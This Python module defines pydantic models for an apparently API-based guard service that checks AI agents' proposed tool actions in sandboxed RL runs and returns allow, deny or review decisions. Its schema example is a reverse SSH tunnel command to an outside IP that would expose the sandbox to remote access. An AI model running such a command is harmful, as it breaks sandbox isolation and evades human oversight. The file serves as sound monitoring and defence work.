"""Request and response models: they validate input and make the OpenAPI document."""
from __future__ import annotations

from typing import Any, Literal, Optional

from pydantic import BaseModel, ConfigDict, Field

Severity = Literal["info", "low", "medium", "high", "critical"]
Int64 = Field(default=None, ge=-(2 ** 63), le=2 ** 63 - 1)


class GuardRequest(BaseModel):
    """A proposed action, before it runs."""

    model_config = ConfigDict(extra="forbid", json_schema_extra={"examples": [
        {"tool": "bash", "input": "ssh -fN -R 2222:localhost:22 cache@185.220.101.47 -p 443",
         "sandbox": "sbx-7f3a9c", "run": "rl-run-a", "episode": "ep-018342", "step": 9}]})
    tool: str = Field(min_length=1, max_length=200, description="bash, python, write_file, ...")
    input: Optional[str] = Field(default=None, max_length=1024 * 1024, description="the command or code")
    args: Optional[dict[str, Any]] = Field(default=None, description="the tool's arguments, when not one string")
    language: Optional[str] = Field(default=None, max_length=40, description="'shell' or 'python', when the tool name does not say")
    sandbox: Optional[str] = Field(default=None, max_length=500)
    run: Optional[str] = Field(default=None, max_length=500)
    episode: Optional[str] = Field(default=None, max_length=500)
    step: Optional[int] = Int64
    host: Optional[str] = Field(default=None, max_length=500)
    pid: Optional[int] = Int64
    id: Optional[str] = Field(default=None, max_length=200, description="the action's id, if the framework has one")


class GuardResponse(BaseModel):
    id: str
    decision: Literal["allow", "deny", "review"]
    reason: str
    findings: list[dict[str, Any]]
    rules: list[str] = Field(description="the candidate rules the engine evaluated for this action")
    event_id: Optional[str] = None
    latency_ms: float
    ts: float


class ItemError(BaseModel):
    index: int = Field(description="0-based position in the array, or 0-based line number in JSON Lines")
    error: str


class IngestResponse(BaseModel):
    accepted: int = Field(description="valid events in the batch (new and already stored)")
    stored: int = Field(description="events stored by this request")
    duplicates: int
    rejected: int
    errors: list[ItemError]
    ids: list[str]
    findings: Optional[list[dict[str, Any]]] = None


class Problem(BaseModel):
    detail: Any


class IncidentDetail(BaseModel):
    incident: dict[str, Any]
    findings: list[dict[str, Any]]
    events: list[dict[str, Any]]
    evidence: Optional[dict[str, Any]] = Field(default=None, description="the ledger's evidence bundle, when a ledger is configured")


class Health(BaseModel):
    status: Literal["ok"]
    version: str
    analysis_queue: int
    rules: int
